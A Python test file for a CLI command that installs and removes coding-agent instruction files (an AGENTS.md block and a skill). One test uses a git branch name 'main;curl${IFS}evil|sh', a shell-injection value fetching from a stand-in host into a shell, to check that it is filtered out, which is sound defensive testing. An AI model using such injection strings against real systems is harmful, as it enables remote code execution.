"""`dualtrack agents install`: what tells coding agents of the board; `uninstall` takes it back."""

import json
import shutil
import sys
from pathlib import Path

import pytest
import yaml
from dualtrack.workspace.agent_files import LINES, SKILL, block

from tests.adapters.git_repository import Repository
from tests.cli.commands import TEXT, board
from tests.cli.conftest import Call

BLOCK = block("")
KEYS = {"name", "description", "license", "compatibility", "metadata", "allowed-tools"}
"""What the front matter of a skill may hold."""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return board(tmp_path, EXP_1=TEXT)


def test_it_shows_what_it_writes_and_writes_it_once(folder: Path, call: Call) -> None:
    shown = call("agents", "install", "--dry-run")
    assert not (folder / LINES).exists()
    assert shown.out.endswith(f"would write {SKILL} and {LINES}\n")
    assert all(f"  {line}" in shown.out for line in BLOCK.splitlines())
    assert call("agents", "install").out == shown.out.replace("would write", "wrote")
    assert (folder / LINES).read_text() == BLOCK
    assert call("agents", "install").out == "nothing is to be written\n"


def test_what_is_new_is_asked_since_the_default_branch(folder: Path, call: Call) -> None:
    repository = Repository(folder)
    repository.commit("Start")
    repository.git("branch", "-m", "trunk")
    call("agents", "install")
    assert "`dualtrack check --since trunk`" in (folder / LINES).read_text()
    repository.git("update-ref", "refs/remotes/origin/trunk", "HEAD")
    assert call("agents", "install").out.endswith(f"wrote {LINES}\n")
    assert "`dualtrack check --since origin/trunk`" in (folder / LINES).read_text()
    assert "`dualtrack check --since trunk`" in (folder / SKILL).read_text()


def test_a_name_that_a_shell_would_run_is_not_written(folder: Path, call: Call) -> None:
    repository = Repository(folder)
    repository.commit("Start")
    repository.git("branch", "-m", "main;curl${IFS}evil|sh")
    call("agents", "install")
    assert "evil" not in (folder / LINES).read_text() + (folder / SKILL).read_text()


def test_the_skill_is_one(folder: Path, call: Call) -> None:
    call("agents", "install")
    _, front, body = (folder / SKILL).read_text().split("---\n", 2)
    keys = yaml.safe_load(front)
    assert keys.keys() <= KEYS
    assert keys["name"] == Path(SKILL).parent.name
    assert len(keys["description"]) <= 1024
    assert len(body) < 2_000


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("# Rules\n\nBe kind.\n", f"# Rules\n\nBe kind.\n\n{BLOCK}"),
        ("\ufeff# Rules", f"\ufeff# Rules\n\n{BLOCK.rstrip()}"),
        (f"a\n{BLOCK.replace('Work', 'Play')}\n\nb", f"a\n{BLOCK}\n\nb"),
    ],
)
def test_every_other_byte_of_agents_md_stays(folder: Path, call: Call, before: str, after: str, newline: str) -> None:
    if "\n" not in before:
        newline = "\n"
    (folder / LINES).write_bytes(before.replace("\n", newline).encode())
    assert call("agents", "install").code == 0
    assert (folder / LINES).read_bytes() == after.replace("\n", newline).encode()


@pytest.mark.parametrize(
    ("path", "text"),
    [(LINES, BLOCK.splitlines()[0]), (LINES, BLOCK.splitlines()[-1]), (LINES, BLOCK * 2), (SKILL, "My own.\n")],
)
def test_what_people_have_changed_is_left(folder: Path, call: Call, path: str, text: str) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text)
    done = call("agents", "install")
    assert (done.code, done.out) == (2, "")
    assert "remove" in done.err
    assert (folder / path).read_text() == text
    assert not (folder / (LINES if path == SKILL else SKILL)).exists()


@pytest.mark.parametrize("branch", ["", "trunk"])
@pytest.mark.parametrize(
    "before",
    ["", "\ufeff", "a", "a\n", "a\n\n", "a\n\n\n", "\ufeffa\n", "\n", "a\r\n", "a\r\nb", "a\rb\r", "a\n\n\tb\x0c", None],
)
def test_what_was_written_is_taken_back_and_no_other_byte(folder: Path, call: Call, before: str | None, branch: str) -> None:
    if branch:
        repository = Repository(folder)
        repository.commit("Start")
        repository.git("branch", "-m", branch)
    if before is not None:
        (folder / LINES).write_bytes(before.encode())
    files = sorted(path for path in folder.rglob("*") if ".git" not in path.parts and path.name != LINES)
    call("agents", "install")
    what = LINES if before is None else f"the lines in {LINES}"
    shown = call("agents", "uninstall", "--dry-run")
    assert (shown.code, shown.out) == (0, f"would remove {SKILL} and {what}\n")
    assert call("agents", "uninstall").out == f"removed {SKILL} and {what}\n"
    assert sorted(path for path in folder.rglob("*") if ".git" not in path.parts and path.name != LINES) == files
    assert ((folder / LINES).read_bytes().decode() if (folder / LINES).exists() else None) == before
    assert call("agents", "uninstall").out == "nothing is to be removed\n"


@pytest.mark.parametrize(
    ("text", "after"),
    [
        (f"a\n\n{BLOCK}\nb\n", "a\n\nb\n"),
        (f"a\n\n{BLOCK}b\n", "a\n\nb\n"),
        (f"{BLOCK}b\n", "b\n"),
        (f"a\n{BLOCK}b", "a\nb"),
        (f"- a {BLOCK}", "- a "),
        (f"a\n\n{BLOCK}\nb".replace("\n", "\r\n"), "a\r\n\r\nb"),
    ],
)
def test_lines_that_were_moved_are_taken_out_of_what_is_around_them(folder: Path, call: Call, text: str, after: str) -> None:
    (folder / LINES).write_bytes(text.encode())
    assert call("agents", "uninstall").out == f"removed the lines in {LINES}\n"
    assert (folder / LINES).read_bytes() == after.encode()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (LINES, BLOCK.replace("Work", "Play")),
        (LINES, BLOCK.splitlines()[0]),
        (LINES, BLOCK.splitlines()[-1]),
        (LINES, BLOCK * 2),
        (SKILL, "My own.\n"),
    ],
)
def test_what_people_have_changed_is_not_taken_away(folder: Path, call: Call, path: str, text: str) -> None:
    call("agents", "install")
    (folder / path).write_text(text)
    done = call("agents", "uninstall", "--json")
    told = json.loads(done.out)
    other = LINES if path == SKILL else SKILL
    assert (done.code, told["said"], told["paths"]) == (0, f"removed {other}", [other])
    assert [note.split()[:2] for note in told["notes"]] == [["left:", path]]
    assert ((folder / path).read_text(), (folder / other).exists()) == (text, False)


def test_what_lies_beside_the_skill_stays(folder: Path, call: Call) -> None:
    call("agents", "install")
    note = (folder / SKILL).parent / "notes.md"
    note.write_text("mine\n")
    call("agents", "uninstall")
    assert [path for path in (folder / ".agents").rglob("*") if path.is_file()] == [note]


@pytest.mark.skipif(sys.platform == "win32", reason="links need a right there")
def test_a_link_is_not_taken_away(folder: Path, call: Call) -> None:
    call("agents", "install")
    (folder / LINES).rename(folder / "CLAUDE.md")
    (folder / LINES).symlink_to("CLAUDE.md")
    (folder / SKILL).rename(folder / "own.md")
    (folder / SKILL).symlink_to(folder / "own.md")
    done = call("agents", "uninstall")
    assert (done.code, done.out) == (0, f"removed the lines in {LINES}\nleft: {SKILL} is a link\n")
    assert ((folder / "CLAUDE.md").read_text(), (folder / LINES).is_symlink()) == ("", True)
    assert (folder / SKILL).is_symlink()


def test_it_is_taken_back_where_the_board_is_gone(folder: Path, call: Call) -> None:
    call("agents", "install")
    shutil.rmtree(folder / "tracks")
    assert call("agents", "uninstall").out == f"removed {SKILL} and {LINES}\n"
